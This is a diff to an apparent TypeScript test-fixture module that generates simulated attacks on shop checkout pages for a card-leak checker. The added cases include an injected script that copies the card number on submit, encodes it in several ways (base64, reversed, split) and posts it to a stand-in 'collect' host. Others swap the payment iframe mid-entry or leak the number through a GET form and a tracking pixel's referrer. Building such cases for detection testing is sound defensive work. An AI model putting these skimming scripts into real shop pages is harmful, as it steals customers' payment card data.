@@ -77,4 +77,57 @@ const popups: readonly Attack[] = [
   }),
 );
 
-export const elsewhere: readonly Attack[] = [...redirects, ...onePageRedirects, ...actions, ...frames, ...popups];
+/** A frame that is the provider's while it is looked at and a stranger's while it is typed into. */
+const turningFrames = (['focus', 'input', 'timer'] as const).flatMap((frameTurns) =>
+  (['onePage', 'steps'] as const).map(
+    (layout): Attack => ({
+      family,
+      name: `the provider’s frame becomes a stranger’s on ${frameTurns}, ${layout}`,
+      rules: { layout, cardFrameHost: 'card-fields', frameTurns },
+    }),
+  ),
+);
+
+/** The number is copied when the form is sent, written in another way each time, and taken along by a second form. */
+const COPIES: Readonly<Record<string, string>> = {
+  'as it is': 'n',
+  'in halves': "n.slice(0, 8) + '&b=' + n.slice(8)",
+  'as base64': 'btoa(n)',
+  backwards: "[...n].reverse().join('')",
+};
+const copies = Object.entries(COPIES).flatMap(([name, code]) =>
+  (['_blank', 'sink'] as const).map(
+    (target): Attack => ({
+      family,
+      name: `a second form takes the number ${name} into ${target}`,
+      slots: {
+        payment: (shop: ShopCase) =>
+          `<iframe name="sink" hidden></iframe>${script(`addEventListener('submit', () => { const n = document.querySelector('#card_number').value.replace(/\\D/g, ''); const f = document.createElement('form'); f.method = 'post'; f.target = '${target}'; f.action = '${shop.origin('collect')}/pay?a=' + ${code}; document.body.append(f); f.submit(); });`)}`,
+      },
+    }),
+  ),
+);
+
+/** The number in an address is told to everybody whose picture the next page shows. */
+const inAddress = (['onePage', 'steps'] as const).map(
+  (layout): Attack => ({
+    family,
+    name: `the card form is sent within the address, ${layout}`,
+    rules: { layout, cardMethod: 'get' },
+    slots: {
+      head: () => '<meta name="referrer" content="unsafe-url">',
+      bottom: (shop: ShopCase) => `<img src="${shop.origin('metrics')}/pixel.gif" alt="">`,
+    },
+  }),
+);
+
+export const elsewhere: readonly Attack[] = [
+  ...redirects,
+  ...onePageRedirects,
+  ...actions,
+  ...frames,
+  ...popups,
+  ...turningFrames,
+  ...copies,
+  ...inAddress,
+];
